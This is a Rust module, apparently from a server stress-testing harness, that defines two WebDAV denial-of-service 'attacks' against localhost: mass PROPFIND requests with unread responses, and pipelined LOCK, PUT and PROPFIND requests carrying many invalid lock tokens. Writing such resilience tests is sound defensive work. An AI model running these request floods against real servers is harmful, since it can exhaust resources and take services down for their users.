//! Attacks with WebDAV.

use super::Target;
use super::kind::{Kind, PLAIN, unread};
use anyhow::Result;
use std::io::Write as _;
use std::net::TcpStream;
use std::time::Duration;

pub(super) const KINDS: &[Kind] = &[
    Kind {
        name: "unread-properties",
        does: "clients get all WebDAV properties of 20,000 files and do not read them",
        attack: |target, _| unread(target, PROPERTIES),
        ..PLAIN
    },
    Kind {
        name: "webdav-locks",
        does: "clients hold WebDAV locks, get those of 20,000 files, and change with 60 tokens",
        attack: locks,
        ..PLAIN
    },
];

/// Request for all properties of a large directory and its members.
const PROPERTIES: &[u8] = b"PROPFIND /many/ HTTP/1.1\r\nHost: localhost\r\nDepth: 1\r\n\r\n";

/// Body of a request for a shared lock.
const LOCK: &str = "<D:lockinfo xmlns:D=\"DAV:\"><D:lockscope><D:shared/></D:lockscope>\
                    <D:locktype><D:write/></D:locktype></D:lockinfo>";

/// Body of a request for the locks.
const FIND: &str =
    "<propfind xmlns=\"DAV:\"><prop><lockdiscovery/><supportedlock/></prop></propfind>";

/// Locks a large directory and files of its own, then changes a file with many invalid tokens and
/// asks for all locks; reads nothing.
fn locks(target: &Target, number: usize) -> Result<()> {
    let mut stream = TcpStream::connect(("127.0.0.1", target.http))?;
    stream.set_write_timeout(Some(Duration::from_secs(1)))?;
    let request = |method: &str, path: &str, fields: &str, body: &str| {
        let length = body.len();
        format!(
            "{method} {path} HTTP/1.1\r\nHost: localhost\r\n{fields}Content-Length: {length}\r\n\
             \r\n{body}"
        )
    };
    let mut all = request("LOCK", "/many/", "Depth: infinity\r\n", LOCK);
    for file in 0..20 {
        all += &request("LOCK", &format!("/locked-{number}-{file}"), "Depth: 0\r\n", LOCK);
    }
    let tokens = (0..60).map(|token| format!("(<urn:{token}>) ")).collect::<String>();
    for _ in 0..20 {
        all += &request("PUT", "/many/new", &format!("If: {tokens}\r\n"), "x");
        all += &request("PROPFIND", "/many/", "Depth: 1\r\n", FIND);
    }
    // The server stops reading when the responses are not read.
    target.arm();
    if stream.write_all(all.as_bytes()).is_ok() {
        target.note_effect();
    }
    target.hold(Duration::from_secs(1));
    Ok(())
}
